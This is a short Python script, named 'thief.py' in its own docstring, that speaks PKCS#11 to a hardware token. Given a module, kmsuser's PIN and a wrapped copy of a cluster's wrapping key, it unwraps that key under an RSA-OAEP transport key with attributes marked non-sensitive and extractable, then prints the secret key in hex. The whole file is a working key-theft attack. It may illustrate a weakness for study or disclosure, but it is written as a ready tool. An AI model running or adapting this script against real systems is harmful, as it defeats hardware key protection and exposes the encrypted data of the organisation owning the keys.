"""Somebody with a token's module, kmsuser's PIN and a wrapped copy of the cluster's wrapping key: unwraps it as a key that can
be read, and prints it in hexadecimal digits. Speaks PKCS#11 by itself.

usage: PIN=... thief.py MODULE TOKEN_LABEL WRAPPED_COPY
"""

import sys
from ctypes import byref, c_void_p, cast, sizeof

import pkcs11
from pkcs11 import CKA_CLASS, CKA_EXTRACTABLE, CKA_KEY_TYPE, CKA_SENSITIVE, CKA_TOKEN, CKA_VALUE

token, blob = pkcs11.Token(sys.argv[1], sys.argv[2]), open(sys.argv[3], "rb").read()
private = token.find(pkcs11.CKO_PRIVATE_KEY, b"keystored-transport")
oaep = pkcs11.Oaep(pkcs11.CKM_SHA_1, pkcs11.CKG_MGF1_SHA1, pkcs11.CKZ_DATA_SPECIFIED, None, 0)
mechanism = pkcs11.Mechanism(pkcs11.CKM_RSA_PKCS_OAEP, cast(byref(oaep), c_void_p), sizeof(oaep))
readable = pkcs11.template(
    (CKA_CLASS, pkcs11.CKO_SECRET_KEY),
    (CKA_KEY_TYPE, pkcs11.CKK_AES),
    (CKA_TOKEN, False),
    (CKA_SENSITIVE, False),
    (CKA_EXTRACTABLE, True),
)
code, stolen = token.unwrap(mechanism, private, blob, readable)
if code:
    sys.exit(f"C_UnwrapKey: 0x{code:x}")
print(token.read(stolen, CKA_VALUE, 64).hex())
